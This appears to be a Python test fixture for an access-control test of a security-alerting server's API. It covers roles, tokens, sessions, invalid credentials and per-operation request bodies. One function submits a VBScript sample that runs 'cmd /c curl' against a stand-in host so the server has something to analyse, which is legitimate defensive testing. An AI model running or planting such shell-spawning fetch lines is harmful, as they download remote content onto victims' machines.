"""A server with something of everything, and everybody who may ask it."""

import os
import time

from contract import Contract
from server import HERE, PASSWORD, Raw, check, wait_for

TOMORROW = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 86400))
DOCUMENT = os.path.join(HERE, "../../../docs/openapi.json")

# Written by hand from the roles' purpose, not taken from the program.
ROLES = {
    "viewer": {"read", "self"},
    "analyst": {"read", "triage", "self"},
    "rule_editor": {"read", "triage", "rules", "self"},
    "responder": {"read", "triage", "block", "self"},
    "administrator": {"read", "triage", "rules", "block", "admin", "audit", "self"},
    "ingest": {"ingest"},
    "auditor": {"read", "audit", "self"},
}
BITS = {"read": 1, "triage": 2, "rules": 4, "block": 8, "admin": 16, "ingest": 32, "audit": 64,
        "self": 128}


class Actor:
    """Somebody who asks. permissions None: nobody, answered 401."""

    def __init__(self, name, client, permissions, tenant="", session=False):
        self.name, self.client, self.permissions = name, client, permissions
        self.tenant, self.session = tenant, session


class World:
    """A server with something of everything, and everybody."""

    def __init__(self, site):
        self.site = site
        self.contract = Contract.load(DOCUMENT)
        site.config["samples"] = {"reserved": True}
        self.submitters = {}
        site.write(150, host="host{}")
        for log in "ab":
            site.write(60, log, host=log + "{}")
        site.start()
        site.wait_alerts(270)
        self.admin = site.admin()
        self.used = 0
        self.alerts = {tenant: site.rows("SELECT id, incident FROM alert WHERE tenant=?", tenant)
                       for tenant in ("", "tenant-a", "tenant-b")}
        self.alerts = {tenant: [(i.hex() if isinstance(i, bytes) else i, n) for i, n in rows]
                       for tenant, rows in self.alerts.items()}

    def take(self, tenant):
        """An alert and its incident that nobody else is given."""
        self.used += 1
        rows = self.alerts[tenant]
        return rows[self.used % len(rows)]

    # ---- Everybody ----

    def actors(self):
        site = self.site
        for role, permissions in ROLES.items():
            bits = sum(BITS[p] for p in permissions)
            token = site.planted_token("role", role, bits, source="logs" * (role == "ingest"))
            yield Actor("token " + role, site.token_client(token), permissions)
            if role != "ingest":
                self.make_user("user-" + role, role)
                self.make_user("leaver-" + role, role)  # for what ends sessions
                yield Actor("session " + role, site.login("user-" + role), permissions,
                            session=True)
        for role in ("analyst", "rule_editor", "administrator"):
            token = site.planted_token("tenant", role, sum(BITS[p] for p in ROLES[role]),
                                       tenant="tenant-a")
            yield Actor("tenant-a " + role, site.token_client(token), ROLES[role], "tenant-a")
        yield Actor("administrator's token for reading", site.token_client(
            site.planted_token("less", "administrator", BITS["read"])), {"read"})
        yield from self.nobodies()

    def make_user(self, name, role, **more):
        self.admin.ok("POST", "/v1/users", {"name": name, "role": role, "password": PASSWORD})

    def nobodies(self):
        site = self.site
        yield Actor("nobody", site.client(), None)
        yield Actor("expired", site.token_client(
            site.planted_token("old", "administrator", 0xDF, life=-1)), None)
        made = self.admin.ok("POST", "/v1/tokens", {
            "name": "gone", "role": "administrator", "days": 1}).json
        self.admin.ok("DELETE", "/v1/tokens/gone")
        yield Actor("revoked", site.token_client(made["token"]), None)
        self.make_user("disabled", "administrator")
        disabled = site.login("disabled")
        self.admin.ok("PATCH", "/v1/users/disabled", {"disabled": True})
        yield Actor("disabled", disabled, None)
        self.make_user("left", "administrator")
        left = site.login("left")
        left.ok("DELETE", "/v1/session")
        yield Actor("logged out", left, None)
        yield Actor("made up", site.token_client("hnm_" + "A" * 43), None)
        yield Actor("token in the cookie", site.client(
            {"Cookie": "hinomi=" + made["token"]}), None)
        yield Actor("Basic", site.client({"Authorization": "Basic YWRtaW46YWRtaW4="}), None)

    # ---- What is asked ----

    def request(self, operation, tenant):
        """URL and body that work for who may, on something of this tenant."""
        alert, incident = self.take(tenant)
        values = {"id": alert if "/alerts/" in operation.path else incident}
        make = getattr(self, "body_" + operation.id, None)
        body = make(alert, incident, values) if make else None
        if "/samples/{id}" in operation.path:
            values["id"] = self.sample(tenant)
            if operation.id == "decideSampleIndicators":
                body = self.decision(values["id"])
        if "/mutes/" in operation.path:
            values["id"] = self.mute(tenant)
        for parameter in operation.path_parameters():
            check(parameter["name"] in values, f"{operation.id}: a value for {parameter}")
        query = "&".join(f"{p['name']}={self.query_value(p)}" for p in operation.parameters
                         if p["in"] == "query" and p.get("required"))
        return operation.url(values) + ("?" + query if query else ""), body

    @staticmethod
    def query_value(parameter):
        schema = parameter["schema"]
        return schema.get("enum", [schema.get("minimum", 1)])[0] if (
            schema["type"] != "string" or "enum" in schema) else "evil"

    def sample(self, tenant):
        """A script of its own that is analysed and offers indicators."""
        if tenant not in self.submitters:
            self.submitters[tenant] = self.site.token_client(
                self.site.planted_token("submitter", "analyst", 3, tenant=tenant))
        client = self.submitters[tenant]
        made = client.ok("POST", "/v1/samples?name=a.vbs", self.body_submitSample(0, 0, {})).json
        wait_for(lambda: client.ok("GET", "/v1/samples/" + made["id"]).json["state"] == "done",
                 "a sample")
        return made["id"]

    def decision(self, sample):
        rows = self.admin.ok("GET", f"/v1/samples/{sample}/indicators").json["items"]
        return {"numbers": [rows[0]["number"]], "state": "rejected"}

    def body_submitSample(self, alert, incident, values):
        self.used += 1
        return Raw(b'CreateObject("WScript.Shell").Run "cmd /c curl http://files.example/%d"\n'
                   % self.used)

    def mute(self, tenant):
        wish = {"kind": "silence", "rules": ["r"], "reason": "test", "owner": "o",
                "conditions": [{"field": "tenant", "value": tenant}] if tenant else [],
                "expires": TOMORROW}
        return self.admin.ok("POST", "/v1/mutes", wish).json["id"]

    def body_login(self, alert, incident, values):
        return {"name": f"nobody-{self.used}", "password": "x"}

    def body_createUser(self, alert, incident, values):
        return {"name": f"made-{self.used}", "role": "viewer", "password": PASSWORD}

    def body_updateUser(self, alert, incident, values):
        values["name"] = self.victim()
        return {"role": "analyst"}

    def body_setPassword(self, alert, incident, values):
        values["name"] = self.victim()
        return {"password": PASSWORD + "x"}

    def victim(self):
        self.make_user(f"victim-{self.used}", "viewer")
        return f"victim-{self.used}"

    def body_changePassword(self, alert, incident, values):
        return {"old": PASSWORD, "new": PASSWORD + " anew"}

    def body_createToken(self, alert, incident, values):
        return {"name": f"made-{self.used}", "role": "viewer", "days": 1}

    def body_revokeToken(self, alert, incident, values):
        values["name"] = f"victim-{self.used}"
        self.admin.ok("POST", "/v1/tokens", {"name": values["name"], "role": "viewer", "days": 1})

    def body_editAlerts(self, alert, incident, values):
        return {"ids": [alert], "change": {"assignee": f"u{self.used}"}}

    def body_updateAlert(self, alert, incident, values):
        return {"assignee": f"u{self.used}"}

    body_updateIncident = body_updateAlert

    def body_commentAlert(self, alert, incident, values):
        return {"text": "seen"}

    body_commentIncident = body_commentAlert

    def body_mergeIncident(self, alert, incident, values):
        tenant = next(t for t, rows in self.alerts.items() if (alert, incident) in rows)
        rows = self.alerts[tenant]
        rows.remove((alert, incident))  # afterwards it is gone
        values["id"] = rows[0][1]
        return {"from": incident}

    def body_splitIncident(self, alert, incident, values):
        """All of it is refused; two are merged first, so that one can be split off."""
        tenant = next(t for t, rows in self.alerts.items() if (alert, incident) in rows)
        rows = self.alerts[tenant]
        other = next(row for row in reversed(rows) if row[0] != alert)
        rows.remove((alert, incident))
        rows.remove(other)
        self.admin.ok("POST", f"/v1/incidents/{incident}/merge", {"from": other[1]})
        values["id"] = incident
        return {"alerts": [other[0]]}

    def body_createMute(self, alert, incident, values):
        return {"kind": "silence", "rules": ["no-such-rule"], "reason": "test", "owner": "o",
                "expires": TOMORROW}

    def body_previewMute(self, alert, incident, values):
        return {"rules": ["no-such-rule"]}

    def body_endMute(self, alert, incident, values):
        return {"show": False}

    def body_requeueOutbox(self, alert, incident, values):
        return {"sink": "none"}
